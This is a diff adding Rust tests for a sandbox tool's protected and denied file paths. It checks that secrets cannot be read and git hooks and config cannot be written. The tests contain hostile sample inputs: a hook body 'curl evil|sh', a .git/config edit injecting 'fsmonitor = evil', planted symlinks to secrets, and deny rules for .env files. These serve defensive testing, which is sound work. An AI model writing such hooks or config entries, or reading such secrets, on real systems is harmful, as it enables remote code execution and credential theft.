@@ -245,3 +245,224 @@ fn a_cancelled_component_stops_before_its_timeout() {
     assert_eq!(last["status"], "cancelled");
     still_serves(&k);
 }
+
+/// Issue 17: the protected and denied paths of a call, enforced by warden's
+/// WASI host on the builtin `fs` tools (a hand-built [`Protection`], as the
+/// executor builds it from the policy).
+mod protected_paths {
+    use std::path::{Path, PathBuf};
+    use std::sync::Arc;
+    use std::time::{Duration, Instant};
+
+    use serde_json::{Value, json};
+    use warden::policy::{Limits, PluginKind, PluginSource, PluginSpec};
+    use warden::runtime::protect::{Deny, DenyPattern, Kind, PathRule, Protection};
+    use warden::runtime::wasm::{ComponentRuntime, LoadedPlugin};
+    use warden::runtime::{Cancel, Walls};
+    use warden::{CallError, ErrorCode};
+
+    struct Fs {
+        _dir: tempfile::TempDir,
+        ws: PathBuf,
+        rt: ComponentRuntime,
+        fs: Arc<LoadedPlugin>,
+        walls: Walls,
+    }
+
+    fn rule(path: PathBuf, deny: Deny, kind: Kind, root: &Path, why: &str) -> PathRule {
+        PathRule { path, deny, kind, root: root.to_path_buf(), why: why.into() }
+    }
+
+    /// A workspace with a git repository, a `.env`, a `secrets/` directory and
+    /// a `sub/.env`; `.git/hooks` and `.git/config` protected, `**/.env` and
+    /// `secrets` denied. `{workspace}/.git` is granted a second time, as its own
+    /// preopen.
+    fn setup(protected: bool) -> Fs {
+        let dir = tempfile::tempdir().unwrap();
+        let ws = dir.path().join("ws");
+        for d in [".git/hooks", "secrets", "sub", "src"] {
+            std::fs::create_dir_all(ws.join(d)).unwrap();
+        }
+        let ws = ws.canonicalize().unwrap();
+        std::fs::write(ws.join(".env"), "TOKEN=hunter2\n").unwrap();
+        std::fs::write(ws.join("sub/.env"), "TOKEN=hunter3\n").unwrap();
+        std::fs::write(ws.join("secrets/key"), "hunter4\n").unwrap();
+        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
+        std::fs::write(ws.join(".git/hooks/pre-push.sample"), "#!/bin/sh\n").unwrap();
+        std::fs::write(ws.join("src/main.rs"), "fn main() {}\n").unwrap();
+        let hooks = "protected: git runs these hooks on the host";
+        let protect = if protected {
+            Protection {
+                rules: vec![
+                    rule(ws.join(".git/hooks"), Deny::Write, Kind::Dir, &ws, hooks),
+                    rule(ws.join(".git/config"), Deny::Write, Kind::File, &ws, "protected: git runs its commands"),
+                    rule(ws.join("secrets"), Deny::Read, Kind::Dir, &ws, "fs.deny_read"),
+                ],
+                patterns: vec![DenyPattern {
+                    pattern: format!("{}/**/.env", ws.display()),
+                    deny: Deny::Read,
+                    why: "fs.deny_read".into(),
+                }],
+            }
+        } else {
+            Protection::default()
+        };
+        let limits = Limits {
+            timeout: Duration::from_secs(20),
+            memory: 64 << 20,
+            max_output: 1 << 20,
+            cpu: Duration::from_secs(20),
+            processes: 1,
+            open_files: 64,
+            file_size: 0,
+            tmp_size: 0,
+            tmp_files: 0,
+        };
+        let walls = Walls {
+            dirs: vec![(ws.clone(), true), (ws.join(".git"), true)],
+            env: vec![],
+            net: vec![],
+            limits,
+            workspace: ws.clone(),
+            has_tmp: false,
+            sysv_ipc: false,
+            inotify: false,
+            system: false,
+            protect,
+        };
+        let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("warden-test-cache");
+        let rt = ComponentRuntime::new(Some(cache)).unwrap();
+        let spec = PluginSpec {
+            name: "fs".into(),
+            source: PluginSource::Builtin("fs".into()),
+            kind: PluginKind::Tool,
+            sha256: None,
+            location: "test".into(),
+        };
+        let fs = rt.load(&spec).unwrap();
+        Fs { _dir: dir, ws, rt, fs, walls }
+    }
+
+    impl Fs {
+        fn call(&self, tool: &str, args: Value) -> Result<Value, CallError> {
+            self.rt.call(&self.fs, tool, args.to_string(), &self.walls, &Cancel::new()).map(|o| o.value)
+        }
+
+        /// The call fails with PERMISSION_DENIED, naming `path` and `key`.
+        fn refused(&self, tool: &str, args: Value, path: &str, key: &str) {
+            let e = self.call(tool, args.clone()).err().unwrap_or_else(|| panic!("{tool} {args} was allowed"));
+            assert_eq!(e.code, ErrorCode::PermissionDenied, "{tool} {args}: {e:?}");
+            let shown = self.ws.join(path);
+            assert!(e.message.contains(&*shown.to_string_lossy()), "{tool} {args}: {}", e.message);
+            assert!(e.message.contains("warden's policy") && e.message.contains(key), "{tool} {args}: {}", e.message);
+            assert!(!e.message.contains("hunter"), "{}", e.message);
+        }
+    }
+
+    #[test]
+    fn denied_files_cannot_be_read_directly_or_through_a_link() {
+        let f = setup(true);
+        f.refused("read_file", json!({"path": ".env"}), ".env", "fs.deny_read");
+        f.refused("read_file", json!({"path": "sub/.env"}), "sub/.env", "fs.deny_read");
+        f.refused("read_file", json!({"path": "./sub/../.env"}), ".env", "fs.deny_read");
+        f.refused("read_file", json!({"path": "secrets/key"}), "secrets/key", "fs.deny_read");
+        f.refused("file_info", json!({"path": "secrets/key"}), "secrets/key", "fs.deny_read");
+        f.refused("copy_file", json!({"source": ".env", "dest": "leak.txt"}), ".env", "fs.deny_read");
+        assert!(!f.ws.join("leak.txt").exists());
+        // Links planted by someone else: to the file, and to a denied directory.
+        std::os::unix::fs::symlink(".env", f.ws.join("x")).unwrap();
+        std::os::unix::fs::symlink("../secrets", f.ws.join("sub/s")).unwrap();
+        f.refused("read_file", json!({"path": "x"}), ".env", "fs.deny_read");
+        f.refused("read_file", json!({"path": "sub/s/key"}), "secrets/key", "fs.deny_read");
+        // Renaming a denied file to a readable name.
+        f.refused("move_file", json!({"source": ".env", "dest": "env.txt"}), ".env", "fs.deny_read");
+        assert!(f.ws.join(".env").exists());
+        // Case is not folded: `.ENV` is another file.
+        std::fs::write(f.ws.join(".ENV"), "public\n").unwrap();
+        assert_eq!(f.call("read_file", json!({"path": ".ENV"})).unwrap()["content"], "public\n");
+    }
+
+    #[test]
+    fn denied_directories_cannot_be_listed_but_their_parent_can() {
+        let f = setup(true);
+        f.refused("list_directory", json!({"path": "secrets"}), "secrets", "fs.deny_read");
+        f.refused("list_directory", json!({"path": "secrets/"}), "secrets", "fs.deny_read");
+        f.refused("grep", json!({"pattern": "hunter", "path": "secrets"}), "secrets", "fs.deny_read");
+        let listing = f.call("list_directory", json!({"path": ".", "depth": 3})).unwrap().to_string();
+        assert!(listing.contains("src/main.rs"), "{listing}");
+        assert!(!listing.contains("secrets/key"), "{listing}");
+        let found = f.call("grep", json!({"pattern": "hunter"})).unwrap().to_string();
+        assert!(!found.contains("hunter"), "grep read a denied file: {found}");
+    }
+
+    #[test]
+    fn protected_paths_are_read_only_and_pinned() {
+        let f = setup(true);
+        let hook = ".git/hooks/pre-commit";
+        f.refused("write_file", json!({"path": hook, "content": "curl evil|sh"}), hook, "fs.unprotect");
+        assert!(!f.ws.join(hook).exists());
+        // Through the second preopen ({workspace}/.git), by an absolute path.
+        let abs = f.ws.join(hook);
+        f.refused("write_file", json!({"path": abs, "content": "x"}), hook, "fs.unprotect");
+        f.refused(
+            "edit_file",
+            json!({"path": ".git/config", "old": "[core]", "new": "[core]\nfsmonitor = evil"}),
+            ".git/config",
+            "fs.unprotect",
+        );
+        f.refused(
+            "delete_file",
+            json!({"path": ".git/hooks/pre-push.sample"}),
+            ".git/hooks/pre-push.sample",
+            "fs.unprotect",
+        );
+        f.refused("move_file", json!({"source": ".git", "dest": "git.old"}), ".git", "fs.unprotect");
+        f.refused("move_file", json!({"source": ".git/hooks", "dest": "hooks.old"}), ".git/hooks", "fs.unprotect");
+        f.refused("move_file", json!({"source": "src/main.rs", "dest": ".git/config"}), ".git/config", "fs.unprotect");
+        f.refused("create_directory", json!({"path": ".git/hooks/d"}), ".git/hooks/d", "fs.unprotect");
+        f.refused("copy_file", json!({"source": "src/main.rs", "dest": hook}), hook, "fs.unprotect");
+        // A link planted towards a hook that does not exist yet: no write through it.
+        std::os::unix::fs::symlink(".git/hooks/post-checkout", f.ws.join("h")).unwrap();
+        f.refused("write_file", json!({"path": "h", "content": "x"}), ".git/hooks/post-checkout", "fs.unprotect");
+        assert!(!f.ws.join(".git/hooks/post-checkout").exists());
+        // Reading protected paths is fine.
+        let v = f.call("read_file", json!({"path": ".git/config"})).unwrap();
+        assert_eq!(v["content"], "[core]\n");
+        f.call("list_directory", json!({"path": ".git/hooks"})).unwrap();
+    }
+
+    #[test]
+    fn ordinary_work_is_untouched() {
+        let f = setup(true);
+        f.call("write_file", json!({"path": "src/lib.rs", "content": "pub fn f() {}\n"})).unwrap();
+        f.call("edit_file", json!({"path": "src/lib.rs", "old": "f()", "new": "g()"})).unwrap();
+        f.call("create_directory", json!({"path": "a/b"})).unwrap();
+        f.call("move_file", json!({"source": "src/lib.rs", "dest": "a/b/lib.rs"})).unwrap();
+        f.call("copy_file", json!({"source": "a/b/lib.rs", "dest": "a/lib.rs"})).unwrap();
+        f.call("delete_file", json!({"path": "a/lib.rs"})).unwrap();
+        f.call("write_file", json!({"path": ".git/HEAD", "content": "ref: refs/heads/main\n"})).unwrap();
+        assert_eq!(std::fs::read_to_string(f.ws.join("a/b/lib.rs")).unwrap(), "pub fn g() {}\n");
+        // An ordinary failure does not mention a refusal.
+        let e = f.call("read_file", json!({"path": "missing.txt"})).unwrap_err();
+        assert!(!e.message.contains("warden's policy"), "{}", e.message);
+    }
+
+    /// Not a test: `cargo test --test components -- --ignored --nocapture guard_cost`
+    /// prints the cost of the guard on 1000 `read_file` calls.
+    #[test]
+    #[ignore]
+    fn guard_cost() {
+        for protected in [false, true, false, true] {
+            let f = setup(protected);
+            let args = json!({"path": "src/main.rs"});
+            for _ in 0..50 {
+                f.call("read_file", args.clone()).unwrap();
+            }
+            let t = Instant::now();
+            for _ in 0..1000 {
+                f.call("read_file", args.clone()).unwrap();
+            }
+            println!("protected={protected}: {:.1} µs per read_file", t.elapsed().as_secs_f64() * 1000.0);
+        }
+    }
+}
